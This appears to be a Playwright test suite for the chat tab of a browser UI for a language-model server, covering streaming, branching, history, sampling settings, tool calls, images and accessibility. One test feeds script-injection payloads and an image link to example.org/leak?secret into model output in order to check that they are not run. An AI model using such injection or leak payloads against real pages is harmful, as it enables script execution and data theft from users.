"""The tab "Chat" in a browser."""

import base64
import json

from tests.server.running import running_server
from tests.support.browser import AXE, answer_next, ask, open_page, violations, wait_for_answer

DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
"""A PNG file of one pixel."""


def text(content):
    return [{"content": content}]


def named(page, name):
    return page.get_by_role("button", name=name, exact=True)


def test_an_answer_is_streamed_regenerated_and_edited_in_branches(page):
    ask(page, "What is 37 + 58?")
    assert "95" in wait_for_answer(page).locator(".markdown").inner_text()
    assert "tokens/s" in page.locator(".stats").inner_text()
    named(page, "Regenerate").click()
    page.wait_for_selector(".branches")
    wait_for_answer(page)
    assert page.locator(".branches").inner_text().split() == ["‹", "2/2", "›"]
    named(page, "Edit").click()
    page.keyboard.press("Control+A")
    page.keyboard.type("What is 1 + 1?")
    page.keyboard.press("Enter")
    page.wait_for_selector(".bubble:has-text('What is 1 + 1?')")
    assert "2" in wait_for_answer(page).locator(".markdown").inner_text()
    assert page.locator(".branches").inner_text().split() == ["‹", "2/2", "›"]
    page.get_by_label("Previous branch").click()
    page.wait_for_selector(".bubble:has-text('What is 37 + 58?')")
    assert page.evaluate("bodies.at(-1).messages") == [{"role": "user", "content": "What is 1 + 1?"}]


def test_escape_stops_an_answer_and_keeps_what_has_come(page):
    answer_next(page, [{"content": "word "}] * 100_000, per_tick=1)
    ask(page, "Go on")
    page.wait_for_selector("text=word word word")
    page.keyboard.press("Escape")
    answer = wait_for_answer(page)
    assert "word word" in answer.inner_text()
    assert "stopped" in answer.locator(".stats").inner_text()
    ask(page, "What is 2 + 2?")
    wait_for_answer(page, 1)
    assert [message["role"] for message in page.evaluate("bodies.at(-1).messages")] == ["user", "assistant", "user"]


def test_the_history_outlives_a_reload_and_goes_through_a_file(page, browser, server, tmp_path):
    ask(page, "What is 3 + 4?")
    wait_for_answer(page)
    page.keyboard.press("Control+K")
    page.wait_for_selector(".welcome")
    page.reload()
    page.locator(".history .title").click()
    assert page.locator(".bubble").inner_text() == "What is 3 + 4?"
    with page.expect_download() as download:
        named(page, "Export").click()
    download.value.save_as(tmp_path / "history.json")
    with open_page(browser, server.url) as other:
        for content, result in (("{}", "no history"), ((tmp_path / "history.json").read_text(), None)):
            with other.expect_file_chooser() as chooser:
                named(other, "Import").click()
            file = {"name": "h.json", "mimeType": "application/json", "buffer": content.encode()}
            chooser.value.set_files(file)
            if result:
                assert result in other.locator(".composer .problem").inner_text()
        assert other.locator(".history .title").inner_text() == "What is 3 + 4?"


def test_what_a_model_writes_is_shown_and_never_run(page):
    written = (
        "# Title\n\n<script>document.title = 'run'</script> <img src=x onerror=\"document.title = 'run'\">\n\n"
        "[link](javascript:document.title='run') ![picture](https://example.org/leak?secret)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n\n- one\n- two\n"
    )
    answer_next(page, [{"content": character} for character in written], per_tick=5)
    ask(page, "Write")
    answer = wait_for_answer(page).locator(".markdown")
    assert page.title() == "Penstock"
    assert answer.locator("img, script").count() == 0
    assert "<script>document.title" in answer.inner_text()
    assert answer.locator("a[href^=javascript]").count() == 0
    assert answer.locator("table td").all_inner_texts() == ["1", "2"]
    assert answer.locator("pre code").text_content() == "print('<b>')"
    assert answer.locator("li").all_inner_texts() == ["one", "two"]
    assert answer.locator("h2").inner_text() == "Title"
    answer.get_by_role("button", name="Copy").click()
    page.wait_for_selector("text=Copied")
    page.fill("#message", "")
    page.press("#message", "Control+v")
    assert page.input_value("#message") == "print('<b>')"
    streamed = answer.inner_html().replace("Copied", "Copy")
    page.reload()
    page.locator(".history .title").click()
    assert page.locator(".markdown").inner_html() == streamed


def test_controls_are_sent_and_json_is_checked_first(page):
    named(page, "Settings").click()
    page.get_by_label("System prompt").fill("Be brief.")
    for label, value in (("Temperature", "0"), ("Top k", "5"), ("Max tokens", "40"), ("Seed", "7")):
        page.get_by_label(label, exact=True).fill(value)
    page.get_by_label("Answer format").select_option("json_schema")
    page.get_by_label("JSON schema").fill('{"type": ')
    page.fill("#message", "Question")
    assert named(page, "Send").is_disabled()
    assert "Not JSON" in page.locator("#json-schema-problem").inner_text()
    page.get_by_label("JSON schema").fill(json.dumps({"enum": [{"n": 1}]}))
    ask(page, "Question")
    assert json.loads(wait_for_answer(page).locator(".markdown").inner_text()) == {"n": 1}
    body = page.evaluate("bodies.at(-1)")
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert {name: body[name] for name in ("temperature", "top_k", "max_tokens", "seed")} == {
        "temperature": 0,
        "top_k": 5,
        "max_tokens": 40,
        "seed": 7,
    }
    assert "top_p" not in body


def test_tokens_show_their_probabilities_by_mouse_and_keyboard(page):
    named(page, "Settings").click()
    page.get_by_label("Log-probabilities").fill("3")
    ask(page, "What is 37 + 58?")
    wait_for_answer(page)
    named(page, "Tokens").click()
    page.hover(".token-list span >> nth=0")
    assert page.locator(".token-card tbody tr").count() == 3
    page.locator(".token-list").focus()
    page.keyboard.press("ArrowRight")
    second = page.locator(".token-list span").nth(1).text_content()
    assert page.locator(".token-card caption").inner_text().startswith(json.dumps(second))


def test_reasoning_is_folded_and_results_of_tools_go_back(page):
    call = {"index": 0, "id": "call-1", "function": {"name": "get_weather", "arguments": '{"city":"Rome"}'}}
    answer_next(page, [{"reasoning_content": "Hm. "}, {"tool_calls": [call]}], finish="tool_calls")
    answer_next(page, text("It is sunny."))
    ask(page, "Weather?")
    answer = wait_for_answer(page)
    assert answer.locator("details.reasoning").get_attribute("open") is None
    assert '"city": "Rome"' in answer.locator(".tool-call pre").inner_text()
    answer.get_by_label("Result").fill("sun")
    named(page, "Send result").click()
    assert "sunny" in wait_for_answer(page, 1).inner_text()
    sent = page.evaluate("bodies.at(-1).messages")
    assert sent[1]["tool_calls"][0]["function"]["arguments"] == '{"city":"Rome"}'
    assert sent[1]["reasoning_content"] == "Hm. "
    assert sent[2] == {"role": "tool", "tool_call_id": "call-1", "content": "sun"}


def test_images_go_with_the_question_where_the_model_takes_them(browser, server):
    card = {"id": "eye", "object": "model", "parent": None, "capabilities": ["completion", "vision"]}
    with open_page(browser, server.url) as page:
        assert page.get_by_label("Attach images").count() == 0
        page.route("**/v1/models", lambda route: route.fulfill(json={"object": "list", "data": [card]}))
        page.reload()
        page.get_by_label("Attach images").wait_for()
        file = {"name": "dot.png", "mimeType": "image/png", "buffer": base64.b64decode(DOT)}
        page.locator("input[type=file]").set_input_files(file)
        page.get_by_alt_text("Image 1").wait_for()
        answer_next(page, text("Red."))
        ask(page, "Which colour?")
        wait_for_answer(page)
        image, question = page.evaluate("bodies.at(-1).messages[0].content")
        assert image["image_url"]["url"] == f"data:image/png;base64,{DOT}"
        assert question == {"type": "text", "text": "Which colour?"}


def test_a_key_is_asked_for_and_kept_and_errors_are_shown(browser):
    with running_server("--api-key", "sk-right") as server, open_page(browser, server.url) as page:
        page.get_by_label("API key", exact=True).fill("sk-wrong")
        named(page, "Use this key").click()
        page.wait_for_selector("dialog >> text=unknown")
        page.get_by_label("API key", exact=True).fill("sk-right")
        named(page, "Use this key").click()
        page.wait_for_selector("text=Chat with penstock-demo")
        ask(page, "What is 1 + 2?")
        assert "3" in wait_for_answer(page).locator(".markdown").inner_text()
        page.get_by_role("link", name="Live").click()
        page.wait_for_selector("text=By API key")
        page.get_by_role("link", name="Chat").click()
        page.reload()
        page.wait_for_selector("text=Chat with penstock-demo")
        named(page, "Settings").click()
        page.get_by_label("Top p").fill("7")
        ask(page, "Too much")
        page.wait_for_selector("[role=alert]:has-text('top_p')")


def test_axe_finds_nothing_wrong_in_light_dark_and_on_a_phone(page):
    assert AXE.is_file(), "run scripts/page, which fetches axe"
    assert violations(page) == []
    answer_next(
        page, text("# T\n\n| a |\n|---|\n| 1 |\n\n```js\nlet a = 1\n```\n\n> quoted [link](https://example.org)")
    )
    ask(page, "Write")
    wait_for_answer(page)
    named(page, "Settings").click()
    assert violations(page) == []
    page.get_by_label("Colours").select_option("dark")
    assert violations(page) == []
    page.get_by_role("link", name="Live").click()
    page.wait_for_selector(".meter")
    assert violations(page) == []
    page.set_viewport_size({"width": 360, "height": 740})
    for tab in ("Live", "Chat"):
        page.get_by_role("link", name=tab).click()
        assert violations(page) == []
        assert page.evaluate("document.documentElement.scrollWidth") == 360
